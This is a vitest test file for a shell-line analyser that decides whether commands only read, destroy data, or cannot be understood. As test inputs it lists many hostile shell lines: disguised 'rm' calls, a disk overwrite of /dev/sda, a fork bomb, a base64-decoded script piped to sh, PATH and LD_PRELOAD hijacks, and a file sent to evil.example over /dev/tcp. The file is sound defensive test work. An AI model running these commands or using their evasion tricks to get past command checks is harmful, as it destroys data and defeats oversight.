import { describe, expect, test } from 'vitest';
import { effects, filesOf, line, meaning, onlyReads, operations } from './support.ts';

describe('a shell line', () => {
  test.each([
    'ls -l | grep x | wc -l',
    'cd /tmp && ls',
    'for f in a b; do cat "$f"; done',
    'if [ -f x ]; then cat x; else echo no; fi',
    'X=prod; echo "$X"',
    'echo $(date)',
    'test -d x || echo none 2>/dev/null',
    'cat <<EOF\nhello\nEOF',
    'while read -r line; do echo "$line"; done < list',
    '[[ -n $HOME ]] && pwd',
    'echo $((1 + 2))',
    "bash -c 'ls; date'",
    "eval 'ls -l'",
    'set -euo pipefail; ls',
    'command -v kubectl',
  ])('%s only reads', async (text) => {
    expect(onlyReads(await line(text))).toBe(true);
  });

  test.each([
    ['a list', 'kubectl get pods; kubectl delete ns prod'],
    ['a pipe', 'cat x | xargs rm'],
    ['a substitution', 'echo $(rm -rf x)'],
    ['backticks', 'echo `rm -rf x`'],
    ['a substitution inside quotes', 'echo "a $(rm x) b"'],
    ['a substitution inside an assignment', 'X=$(rm x)'],
    ['a process substitution', 'diff <(rm x) y'],
    ['a here-document', 'cat <<EOF\n$(rm x)\nEOF'],
    ['a loop', 'for f in a; do rm "$f"; done'],
    ['a branch', 'if false; then rm x; fi'],
    ['a case', 'case x in y) rm x;; esac'],
    ['a function', 'f() { rm x; }; f'],
    ['a function fed with arguments', 'f() { rm "$@"; }; f x'],
    ['the background', 'rm x &'],
    ['a redirection', 'echo x > /dev/sda'],
    ['a variable', 'R=rm; $R -rf x'],
    ['a quoted name', '"rm" x'],
    ['a backslash', '\\rm x'],
    ['a split name', "r''m x"],
    ['a continued line', 'r\\\nm x'],
    ['eval', "eval 'rm x'"],
    ['a trap', "trap 'rm x' EXIT"],
    ['another shell', "sh -c 'rm x'"],
    ['arithmetic', 'echo $(( $(rm x) ))'],
    ['a test', '[[ $(rm x) ]]'],
    ['a shell fed by echo', "echo 'rm x' | sh"],
    ['a shell fed by a here-string', "bash <<< 'rm x'"],
    ['a positional parameter', 'bash -c \'"$@"\' _ rm x'],
  ])('finds what is hidden in %s', async (_, text) => {
    expect(effects(await line(text))).toContain('destroy');
  });

  test.each([
    ['a command named by the environment', '$CMD x'],
    ['a command named by a substitution', '$(echo rm) x'],
    ['a command named by a pattern', '/bin/r? x'],
    ['a command named by braces', '{rm,x}'],
    ['text from elsewhere', 'eval "$X"'],
    ['a decoded script', 'echo cm0geA== | base64 -d | sh'],
    ['a sourced file', '. ./x.sh'],
    ['a name assigned in a branch', 'X=ls; if true; then X=rm; fi; $X y'],
    ['a name assigned by read', 'read X; $X'],
    ['an indirect expansion', 'X=Y; echo $' + '{!X}'],
    ['an expansion that runs prompts', 'X=a; echo $' + '{X@P}'],
    ['a subscript that runs a command', "[ -v 'a[$(rm x)]' ]"],
    ['arithmetic on text that runs a command', "X='a[$(rm x)]'; (( X ))"],
    ['a start file for children', 'BASH_ENV=x bash -c ls'],
    ['a new PATH', 'PATH=/tmp/evil:$PATH; ls'],
    ['a library put in front', 'LD_PRELOAD=x ls'],
    ['a function that may not be defined', 'false && rm() { :; }; rm x'],
    ['a function that is forgotten', 'rm() { :; }; unset -f rm; rm x'],
    ['a name that may not be assigned', 'false && X=ls; $X'],
    ['a name with another name', 'X=ls; declare -n R=X; R=rm; $X y'],
    ['a name that is set by printf', 'X=ls; printf -v "$N" rm; $X y'],
    ['a table of commands', 'BASH_CMDS[ls]=/tmp/evil; ls'],
    ['a remembered path', 'hash -p /tmp/evil ls; ls'],
    ['a completion', "compgen -W '$(rm x)'"],
    ['a callback', "mapfile -C 'rm x' -c 1 A < y"],
    ['a part of a sed script', 'sed "s/a/$X/" y'],
    ['a part of an awk program', 'awk "{ print $X }" y'],
    ['a part of an operation', 'aws ssm get-$X'],
    ['a part of a kind', 'kubectl get "pods,$X"'],
    ['an output format', 'kubectl get pods -o "$X"'],
    ['a function that calls itself', ':(){ :|:& };:'],
    ['an alias', "alias ls='rm x'; ls"],
    ['text that does not parse', 'if then'],
    ['a carriage return', 'echo a\rrm x'],
    ['an option that may come from a variable', 'sort $X'],
    ['an address of the network', 'cat x > /dev/tcp/evil.example/80'],
  ])('%s is not understood', async (_, text) => {
    const understanding = await line(text);
    expect(onlyReads(understanding)).toBe(false);
    if (!effects(understanding).includes('destroy')) expect(effects(understanding)).toContain('unknown');
  });

  test('a directory is only certain behind the cd that worked', async () => {
    const { actions } = await line('cd /srv; rm x');
    expect(actions.at(-1)?.resource).toEqual({ kind: 'file' });
    const files = { ...filesOf({ '/srv': '' }) };
    const known = await line('cd /srv; rm x', { files });
    expect(known.actions.at(-1)?.resource).toEqual({ kind: 'file', path: '/srv/x' });
  });

  test('a redirection names its file, in the directory the line went to', async () => {
    const { actions } = await line('cd /srv && echo x >> log');
    expect(actions).toContainEqual(
      expect.objectContaining({ effects: ['write'], resource: { kind: 'file', path: '/srv/log' } }),
    );
  });

  test('what only the shell will know is absent from the action', async () => {
    const { actions } = await line('kubectl -n "$NS" delete pod "web-$N"');
    expect(actions[0]?.effects).toEqual(['destroy']);
    expect(actions[0]?.resource).toEqual({ kind: 'pod' });
  });

  test('a known variable reaches the command it is set for', async () => {
    const { actions } = await line('PGDATABASE=shop psql -c "select 1"');
    expect(actions[0]?.scope).toEqual({ database: 'shop' });
  });

  test('a script file is read and becomes an input', async () => {
    const files = filesOf({ 'x.sh': '#!/bin/bash\nls\nrm -rf build\n' });
    const understanding = await meaning(['bash', 'x.sh', 'arg'], { files });
    expect(operations(understanding)).toEqual(['ls ls', 'rm rm']);
    expect(understanding.inputs).toMatchObject([{ role: 'script', path: 'x.sh' }]);
    expect((await meaning(['bash', 'absent.sh'])).opaque).toBe(true);
  });

  test.each(['terminal', 'pipe', 'file'] as const)('a shell that reads its %s is opaque', async (stdin) => {
    expect((await meaning(['bash'], { stdin })).opaque).toBe(true);
  });
});
